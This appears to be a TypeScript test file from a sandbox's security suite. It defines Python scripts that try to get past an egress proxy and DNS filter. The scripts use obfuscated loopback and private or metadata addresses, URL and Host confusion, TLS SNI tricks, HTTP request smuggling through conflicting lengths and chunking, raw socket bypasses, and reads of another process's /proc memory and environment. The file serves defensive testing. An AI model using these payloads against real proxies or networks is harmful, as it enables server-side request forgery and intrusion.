import type { Reachable } from "../../proxy/types.ts";
import { NETWORK_PRELUDE } from "../network-prelude.ts";
import { py, type ScriptAttack } from "../types.ts";

/**
 * What a program tries that may reach one host, and wants another, or the inside of a network, or to say to the one what nobody judged. The stage has names, addresses
 * and servers of its own; SMUGGLED is a word that the allowed server may never hear, and that it may never hear behind something else.
 */
type Host = Omit<Reachable, "rule">;
const http = (host: string, port = 80): Host => ({ host, port, scheme: "http" });
const https = (host: string): Host => ({ host, port: 443, scheme: "https" });
const ALLOWED: readonly Host[] = [http("allowed.example"), https("allowed.example")];

/** At the end an honest request has to get through: a script that broke off, or a network that does not work, says nothing. */
const CONTROL = `
if b" 200 OK" in get("http://allowed.example/control", "allowed.example"):
    print("WORKS")
`;
const attack = (id: string, script: string, hosts: readonly Host[] = [], rest: Partial<ScriptAttack> = {}): ScriptAttack =>
  py("proxy and DNS", id, `${NETWORK_PRELUDE}${script}${CONTROL}`, { reach: [...ALLOWED, ...hosts], ...rest });

/** Names of the stage that lead inside: each is one range, or one disguise. */
const INSIDE = [
  "private",
  "loop",
  "metadata",
  "carrier",
  "loop6",
  "mapped",
  "nat64",
  "sixtofour",
  "teredo",
  "isatap",
  "unique",
  "link6",
  "multicast",
  "zero",
];
const ODD = [
  "0x7f.1",
  "0x7f000001",
  "2130706433",
  "017700000001",
  "0177.0.0.1",
  "127.1",
  "127.0.0.1.",
  "127.0.0.01",
  "localhost",
  "localhost.",
  "①②⑦.⓪.⓪.①",
];

export const NETWORK: readonly ScriptAttack[] = [
  attack(
    "proxy-unnamed-host",
    `for url, host in (("http://other.example/", "other.example"), ("http://198.51.100.20/", "198.51.100.20"), ("http://allowed.example:8080/SMUGGLED", "allowed.example:8080")):
    get(url, host); connect(host.split(":")[0] + ":443", hello("other.example")); socks(host.split(":")[0], 80, b"GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n")
socks(bytes([198, 51, 100, 20]), 80, b"GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n", kind=1)`,
  ),
  attack(
    "proxy-name-around-name",
    `for host in ("allowed.example.other.example", "other.example.allowed.example", "allowed.examples", "xallowed.example", "allowed-example.other.example"):
    get("http://%s/" % host, host); connect(host + ":443", hello(host)); socks(host, 80)`,
  ),
  attack(
    "proxy-odd-loopback",
    `for host in ${JSON.stringify(ODD)}:
    h = host.encode("utf-8")
    get(b"http://" + h + b"/", h); connect(h + b":443", hello("allowed.example")); socks(h, 80, b"GET / HTTP/1.1\\r\\nHost: " + h + b"\\r\\n\\r\\n")`,
    [...ODD, "127.0.0.1"].map((host) => http(host)),
  ),
  ...INSIDE.map((name) =>
    attack(
      `proxy-name-leads-inside-${name}`,
      `get("http://${name}.example/", "${name}.example"); connect("${name}.example:443", hello("${name}.example")); socks("${name}.example", 80, b"GET / HTTP/1.1\\r\\nHost: ${name}.example\\r\\n\\r\\n")`,
      [http(`${name}.example`), https(`${name}.example`)],
      { family: "proxy-name-leads-inside" },
    ),
  ),
  attack(
    "proxy-address-inside",
    `for host in ("127.0.0.1", "10.20.30.40", "169.254.169.254", "100.64.1.1", "[::1]", "[::ffff:10.20.30.40]", "[fd00::10]"):
    get("http://%s/" % host, host)
socks(bytes([127, 0, 0, 1]), 80, kind=1); socks(bytes(15) + b"\\1", 80, kind=4)`,
    ["127.0.0.1", "10.20.30.40", "169.254.169.254", "100.64.1.1", "::1", "::ffff:a14:1e28", "fd00::10"].map((host) => http(host)),
  ),
  attack("proxy-one-address-inside", `for i in range(8): get("http://mixed.example/%d" % i, "mixed.example")`, [http("mixed.example")]),
  attack("proxy-rebinding", `for i in range(8): get("http://rebind.example/%d" % i, "rebind.example")`, [http("rebind.example")]),
  attack("proxy-interface-zone", `get("http://[fe80::1%lo]/", "[fe80::1%lo]"); connect("[fe80::1%25lo]:443", hello("allowed.example"))`, [
    http("fe80::1"),
  ]),
  attack(
    "proxy-nul-in-name",
    `for host in (b"other.example\\0.allowed.example", b"allowed.example\\0.other.example", b"allowed.example\\0", b"\\0allowed.example"):
    get(b"http://" + host + b"/SMUGGLED", b"allowed.example"); connect(host + b":443", hello("allowed.example")); socks(host, 80, b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-user-before-host",
    `for host in ("allowed.example@other.example", "allowed.example:80@other.example", "other.example:x@allowed.example"):
    get("http://%s/SMUGGLED" % host, "allowed.example"); connect(host + ":443", hello("allowed.example")); socks(host, 80)`,
  ),
  attack(
    "proxy-url-confusion",
    `for url in ("http://other.example\\\\@allowed.example/SMUGGLED", "http://allowed.example#@other.example/SMUGGLED", "http:///allowed.example/SMUGGLED", "http:/allowed.example/SMUGGLED", "//allowed.example/SMUGGLED",
            "http://allowed.example\\t/SMUGGLED", "http://allowed%2eexample/SMUGGLED", "http://allowed.example./SMUGGLED", "gopher://allowed.example/SMUGGLED", "file:///SMUGGLED", "/SMUGGLED", "*"):
    get(url, "allowed.example")`,
  ),
  attack(
    "proxy-without-token",
    `for auth in (b"", basic(USER, "0" * 64), basic(USER, ""), basic("other", TOKEN), basic(USER, TOKEN[:-1]), basic(USER, TOKEN + "x"), AUTH + AUTH, b"Authorization: Basic " + AUTH.split(b" ")[2], b"Proxy-Authorization: Bearer " + TOKEN.encode() + b"\\r\\n"):
    get("http://allowed.example/SMUGGLED", "allowed.example", auth=auth); connect("allowed.example:443", hello("allowed.example", "SMUGGLED"), auth=auth)
for user, token in ((USER, "x"), ("", ""), ("other", TOKEN), (USER, TOKEN + "\\0")):
    socks("allowed.example", 80, b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n", user=user, token=token)
say(b"\\5\\1\\0\\5\\1\\0\\3\\x0fallowed.example\\0\\x50GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
say(b"\\4\\1\\0\\x50\\xc0\\0\\2\\x0a\\0GET /SMUGGLED HTTP/1.1\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-token-at-server",
    `heard = get("http://allowed.example/echo", "allowed.example", "Connection: X", "X: y")
if TOKEN.encode() in heard or AUTH.split()[2] in heard: print("OPEN: the server hears the token")`,
  ),
  attack(
    "proxy-inner-host",
    `for fields in (["Host: SMUGGLED.example"], ["X: y", "host:SMUGGLED.example"], ["HOST : SMUGGLED.example"], ["X: y\\r\\n Host: SMUGGLED.example"]):
    get("http://allowed.example/", "allowed.example", *fields)
get("http://allowed.example/SMUGGLED", "other.example"); get("http://allowed.example/SMUGGLED", "allowed.example:8080"); get("http://allowed.example/SMUGGLED", "")
socks("allowed.example", 80, b"GET /SMUGGLED HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n", b"")`,
  ),
  attack(
    "proxy-address-in-tunnel",
    `socks("allowed.example", 80, b"GET http://other.example/SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n"); socks("allowed.example", 80, b"CONNECT other.example:443 HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\nSMUGGLED")`,
  ),
  attack(
    "proxy-server-name",
    `for inside in (hello("SMUGGLED.example"), hello("allowed.example.SMUGGLED.example"), hello("SMUGGLED.example", record=5)):
    connect("allowed.example:443", inside); socks("allowed.example", 443, inside)`,
  ),
  attack(
    "proxy-two-server-names",
    `for inside in (hello("allowed.example", "SMUGGLED.example"), hello("SMUGGLED.example", "allowed.example"), hello("allowed.example", "SMUGGLED.example", together=True)):
    connect("allowed.example:443", inside); socks("allowed.example", 443, inside)`,
  ),
  attack(
    "proxy-no-server-name",
    `for inside in (hello() + b"SMUGGLED", hello("") + b"SMUGGLED"): connect("allowed.example:443", inside); socks("allowed.example", 443, inside)`,
  ),
  attack(
    "proxy-no-tls",
    `for inside in (b"SMUGGLED", b"SSH-2.0-SMUGGLED\\r\\n", b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n", b"\\x80\\x2e\\1\\3\\1SMUGGLED", b"\\x15\\3\\1\\0\\2\\1\\0SMUGGLED"):
    connect("allowed.example:443", inside); socks("allowed.example", 443, inside)`,
  ),
  attack("proxy-behind-greeting", `connect("allowed.example:443", hello("allowed.example", more=b"\\x0b\\0\\0\\x08SMUGGLED"))`),
  attack(
    "proxy-half-greeting",
    `connect("allowed.example:443", hello("allowed.example.SMUGGLED")[:70]); connect("allowed.example:443", b"\\x16\\3\\1\\x40\\0\\1\\0\\x3f\\xfcSMUGGLED")`,
  ),
  attack(
    "proxy-tls-to-plain-port",
    `connect("allowed.example:80", hello("allowed.example") + b"SMUGGLED"); socks("allowed.example", 80, hello("allowed.example") + b"SMUGGLED")`,
  ),
  attack(
    "proxy-plain-to-tls-port",
    `get("http://allowed.example:443/SMUGGLED", "allowed.example:443"); socks("allowed.example", 443, b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example:443\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-two-lengths",
    `for a, c in ((0, 60), (60, 0), (4, 4)):
    get("http://allowed.example/", "allowed.example", "Content-Length: %d" % a, "Content-Length: %d" % c, method="POST", body=b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-odd-length",
    `for length in ("+60", "0x3c", "60, 60", "60 ", "060", "6e1", "", "-1", "9" * 30, "0\\t1"):
    get("http://allowed.example/", "allowed.example", "Content-Length: %s" % length, method="POST", body=b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n") if length != "60 " else None`,
  ),
  attack(
    "proxy-body-in-pieces",
    `for field in ("Transfer-Encoding: chunked", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: identity, chunked", "Transfer-Encoding:\\tchunked"):
    get("http://allowed.example/", "allowed.example", field, "Content-Length: 5", method="POST", body=b"0\\r\\n\\r\\nGET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-line-ends",
    `for end in (b"\\n", b"\\r", b"\\r\\r\\n", b"\\n\\r\\n"):
    say(b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n" + AUTH + b"X: y" + end + b"SMUGGLED: y\\r\\n\\r\\n")
say(b"\\r\\n\\r\\nGET http://allowed.example/SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n" + AUTH + b"\\r\\n")`,
  ),
  attack(
    "proxy-folded-field",
    `get("http://allowed.example/", "allowed.example", "X: y\\r\\n SMUGGLED: y"); get("http://allowed.example/", "allowed.example", "X: y\\r\\n\\tSMUGGLED")`,
  ),
  attack(
    "proxy-second-request",
    `second = b"GET http://allowed.example/SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n" + AUTH + b"\\r\\n"
first = b"GET http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\n" + AUTH + b"\\r\\n"
say(first + second); say(first, second, pause=0.05); say(first.replace(b"\\r\\n\\r\\n", b"\\r\\nConnection: keep-alive\\r\\n\\r\\n"), second.replace(b"allowed", b"other"))
socks("allowed.example", 80, b"GET / HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\nGET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")`,
  ),
  attack(
    "proxy-beyond-length",
    `get("http://allowed.example/", "allowed.example", "Content-Length: 3", method="POST", body=b"abcSMUGGLED")`,
  ),
  attack(
    "proxy-dropped-fields",
    `get("http://allowed.example/SMUGGLED", "allowed.example", "Connection: close, Host"); get("http://allowed.example/SMUGGLED", "allowed.example", "Connection: content-length", "Content-Length: 3", method="POST", body=b"abc")`,
  ),
  attack(
    "proxy-other-protocol",
    `get("http://allowed.example/", "allowed.example", "Upgrade: SMUGGLED", "Connection: Upgrade, HTTP2-Settings", "HTTP2-Settings: SMUGGLED"); say(b"PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\nSMUGGLED"); say(b"GET http://allowed.example/SMUGGLED\\r\\n"); say(b"GET http://allowed.example/SMUGGLED HTTP/0.9\\r\\n" + AUTH + b"\\r\\n")`,
  ),
  attack(
    "proxy-redirection",
    `get("http://allowed.example/redirect", "allowed.example")
import subprocess
subprocess.run(["curl", "-sL", "http://allowed.example/redirect"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL) if os.path.exists("/usr/bin/curl") else None`,
  ),
  attack(
    "proxy-datagrams-and-listeners",
    `for command in (2, 3, 0xf0): socks("allowed.example", 80, b"GET /SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n", command=command)`,
  ),
  attack(
    "proxy-asks-itself",
    `get("http://127.0.0.1:%d/" % PROXY[1], "127.0.0.1:%d" % PROXY[1]); connect("127.0.0.1:%d" % PROXY[1], b"CONNECT other.example:443 HTTP/1.1\\r\\n" + AUTH + b"\\r\\n"); socks("127.0.0.1", PROXY[1])`,
    [http("127.0.0.1", 3128)],
  ),
  attack(
    "proxy-beyond-bytes",
    `s = dial()
s.sendall(b"POST http://allowed.example/ HTTP/1.1\\r\\nHost: allowed.example\\r\\nContent-Length: 9000000\\r\\n" + AUTH + b"\\r\\n")
try:
    for i in range(40): s.sendall(b"x" * 65536)
    s.sendall(b"SMUGGLED")
except OSError: pass
rest(s)
print("WORKS"); sys.exit()`,
  ),
  attack(
    "proxy-beyond-requests",
    `for i in range(60): get("http://other.example/", "other.example")
if b" 200 OK" in get("http://allowed.example/SMUGGLED", "allowed.example"): print("OPEN: there is no end of requests")
print("WORKS"); sys.exit()`,
  ),
  attack(
    "proxy-past-it",
    `for family, address in ((socket.AF_INET, "192.0.2.10"), (socket.AF_INET, "127.0.0.1"), (socket.AF_INET, "10.20.30.40"), (socket.AF_INET6, "::1")):
    for port in (80, 443, int(os.environ["PORT"])):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                s = socket.socket(family, kind); s.settimeout(0.2); s.connect((address, port)); s.send(b"SMUGGLED")
                if kind == socket.SOCK_STREAM: print("OPEN: %s:%d answers" % (address, port))
            except OSError: pass`,
  ),
  attack(
    "proxy-resolver-past-it",
    `try:
    print("OPEN: names are told", socket.getaddrinfo("allowed.example", 80))
except OSError: pass`,
  ),
  attack(
    "proxy-others-sockets",
    `for folder, dirs, files in os.walk("/run"):
    for name in files + dirs:
        if name not in ("helper", "proxy", "noctem"): print("OPEN: /run has", name)
try:
    s = socket.socket(socket.AF_UNIX); s.connect("/run/noctem/proxy"); s.settimeout(1)
    s.sendall(b"GET http://allowed.example/SMUGGLED HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\n")
    if b" 407 " not in s.recv(100): print("OPEN: the socket asks for no token")
except OSError: pass`,
  ),
  attack(
    "proxy-relay-taken-over",
    `for pid in os.listdir("/proc"):
    try:
        if pid.isdigit() and int(pid) != os.getpid() and b"helper" in open("/proc/%s/cmdline" % pid, "rb").read():
            for name in ("mem", "environ", "maps"):
                try:
                    open("/proc/%s/%s" % (pid, name), "r+b" if name == "mem" else "rb").read(1)
                    print("OPEN: %s of the relay" % name)
                except OSError: pass
            for fd in range(32):
                try:
                    print("OPEN: descriptor of the relay", os.readlink("/proc/%s/fd/%d" % (pid, fd)))
                except OSError: pass
    except OSError: pass`,
  ),
];
